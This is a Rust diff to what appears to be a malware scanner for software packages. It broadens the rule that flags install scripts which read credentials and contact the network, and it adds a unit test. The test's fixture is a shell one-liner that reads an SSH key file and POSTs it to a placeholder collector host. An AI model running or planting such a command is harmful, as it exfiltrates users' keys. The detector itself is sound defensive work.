@@ -77,14 +77,16 @@ pub(crate) static OBFUSCATED_AT_INSTALL: Rule = Rule {
 pub(crate) fn correlate(hits: &mut Vec<Hit>, place: Place) {
     let has = |id: &str| hits.iter().find(|h| h.rule.id == id).map(|h| h.line);
     let network = has("SA-002").or(has("SA-011")).or(has("SA-012")).or(has("SA-013"));
-    // Where a thief sends: a webhook, a callback host, a bare IP. SSH clients, cloud SDKs and
-    // package managers read credentials and talk to their own servers; they do not send there.
-    let drop_box = has("SA-011").or(has("SA-012")).or(has("SA-013"));
+    // Where a thief sends: a webhook, a callback host, a bare IP, a paste or drop host. SSH
+    // clients, cloud SDKs and package managers read credentials and talk to their own servers;
+    // they do not send there, and not from an install hook.
+    let drop_box = has("SA-011").or(has("SA-012")).or(has("SA-013")).or(has("SA-030"));
     let at_install = place.install || place.import;
     let mut added = Vec::new();
     let secrets = match (has("SA-005"), has("SA-014")) {
         (Some(line), _) if network.is_some() => Some(line),
-        (_, Some(line)) if drop_box.is_some() => Some(line),
+        // An install has no business reading credentials and reaching the network at all.
+        (_, Some(line)) if drop_box.is_some() || (place.install && network.is_some()) => Some(line),
         _ => None,
     };
     if let Some(line) = secrets {
@@ -163,5 +165,28 @@ pub(crate) fn of(score: u32) -> Verdict {
         Verdict::Suspicious
     } else {
         Verdict::Clean
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::package::SourceFile;
+    use crate::rules::{Ctx, fixture::INSTALL};
+
+    fn correlated(path: &str, source: &str, place: Place) -> Vec<&'static str> {
+        let file = SourceFile::new(path, source.as_bytes().to_vec(), false);
+        let facts = crate::facts_of(&file);
+        let mut hits = crate::rules::check(&Ctx { file: &file, facts: &facts, place, natives: &[] });
+        correlate(&mut hits, place);
+        hits.iter().map(|h| h.rule.id).collect()
+    }
+
+    #[test]
+    fn an_install_script_reading_keys_and_reaching_the_network_sends_secrets() {
+        let script = "a=$(cat $HOME/.ssh/id_rsa.pub) && curl -X POST -d \"payload=$a\" https://collector.example/k\n";
+        assert!(correlated("setup.sh", script, INSTALL).contains(&"SA-100"));
+        // The same in library code sends nowhere suspicious: an SSH or cloud client at work.
+        assert!(!correlated("setup.sh", script, Place::default()).contains(&"SA-100"));
     }
 }
